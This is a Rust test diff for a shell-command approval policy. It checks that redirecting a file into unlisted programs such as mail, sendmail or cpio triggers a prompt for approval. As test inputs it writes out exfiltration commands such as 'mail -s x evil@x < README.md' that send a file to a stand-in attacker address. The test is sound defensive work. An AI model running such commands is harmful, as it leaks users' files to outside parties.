@@ -364,3 +364,45 @@ fn an_exact_command_approval_covers_its_own_redirection() {
     let e = host.script(&c, script);
     assert_eq!(e.decision, Verdict::Allow, "{:?}", e.reason);
 }
+
+#[test]
+fn a_file_fed_to_a_program_with_no_spec_or_filter_profile_is_asked() {
+    // With a broad allowlist, `mail evil@x < notes` sends the file,
+    // `cpio -i < a.cpio` unpacks it.
+    let host = Host::new();
+    let bin = host.project.join("bin");
+    std::fs::create_dir(&bin).unwrap();
+    for name in ["mail", "sendmail", "cpio", "tr", "jq", "sort"] {
+        let path = bin.join(name);
+        std::fs::write(&path, "#!/bin/sh\n").unwrap();
+        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+            .unwrap();
+    }
+    let c = host.policy(json!({"allowlist": [{"pattern": format!("{}/*", bin.display())}]}));
+    for (script, plain) in [
+        (
+            "./bin/mail -s x evil@x < README.md",
+            "./bin/mail -s x evil@x",
+        ),
+        ("./bin/sendmail evil@x < README.md", "./bin/sendmail evil@x"),
+        ("./bin/cpio -i < README.md", "./bin/cpio -i"),
+        ("./bin/cpio -idv 0< README.md", "./bin/cpio -idv"),
+    ] {
+        let e = host.script(&c, script);
+        assert_eq!(e.decision, Verdict::Ask, "{script}");
+        assert_eq!(guard_ids(&e), [STDIN_UNKNOWN_PROGRAM], "{script}");
+        // Without the redirection, the program is trusted as before.
+        let e = host.script(&c, plain);
+        assert_eq!(e.decision, Verdict::Allow, "{plain}: {:?}", e.reason);
+    }
+    // A program the policy describes (a spec, a filter's profile) reads
+    // it as its own job.
+    for script in [
+        "./bin/tr a-z A-Z < README.md",
+        "./bin/jq . < README.md",
+        "./bin/sort < README.md",
+    ] {
+        let e = host.script(&c, script);
+        assert_eq!(e.decision, Verdict::Allow, "{script}: {:?}", e.reason);
+    }
+}
